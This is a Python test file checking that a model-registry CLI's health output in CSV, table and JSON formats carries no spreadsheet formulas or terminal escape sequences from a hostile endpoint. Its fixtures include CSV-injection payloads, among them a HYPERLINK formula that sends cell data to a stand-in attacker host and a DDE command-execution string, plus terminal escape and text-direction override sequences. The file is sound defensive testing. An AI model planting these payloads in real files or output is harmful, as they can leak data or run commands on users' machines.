"""`registry health -o csv|table|json` over what a hostile model endpoint answers: no
formula cell for a ',' or ';' separated spreadsheet, no escape sequence on a terminal."""

from __future__ import annotations

import csv
import io
import json

from tests.helpers import applied, manifest_file

ENV = "production"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "a;=cmd|' /C calc'!A0",
    'b," =1',
    "c\n=1",
]
TERMINAL = ["\x1b]0;owned\x07", "\x1b[2J", "\u202egnp.exe", "\x9b31m"]


def _hostile(cli, kube, vllm, tmp_path) -> None:
    kube.add_model("llama-2-7b", ENV)
    server = vllm(*FORMULAS, *TERMINAL)
    kube.set_backend(f"llama-2-7b-{ENV}", "system", server.url)
    applied(cli, manifest_file(tmp_path, ENV, "llama-2-7b"))


def test_environment_health_csv_has_no_formula_cell(cli, kube, vllm, tmp_path):
    _hostile(cli, kube, vllm, tmp_path)
    code, out, err = cli("health", "-e", ENV, "-o", "csv")
    assert code == 2, err  # the endpoint does not serve the model: disagrees
    assert "endpoint serves [" in out
    for delimiter in (",", ";"):
        cells = [c for row in csv.reader(io.StringIO(out), delimiter=delimiter) for c in row]
        formulas = [c for c in cells if c.lstrip(' "')[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not formulas, f"{delimiter!r}-separated: {formulas}"
    assert not set("\x1b\x07\x9b\u202e\r\t") & set(out)


def test_environment_health_table_and_json_carry_no_escape_sequence(cli, kube, vllm, tmp_path):
    _hostile(cli, kube, vllm, tmp_path)
    code, table, err = cli("health", "-e", ENV)
    assert code == 2, err
    assert not set("\x1b\x07\x9b\u202e\r") & set(table + err)
    code, out, err = cli("health", "-e", ENV, "-o", "json")
    assert code == 2, err
    assert not set("\x1b\x07\x9b\u202e\r") & set(out + err)
    (check,) = json.loads(out)
    assert check["agrees"] is False and check["expected_status"] == "pending"
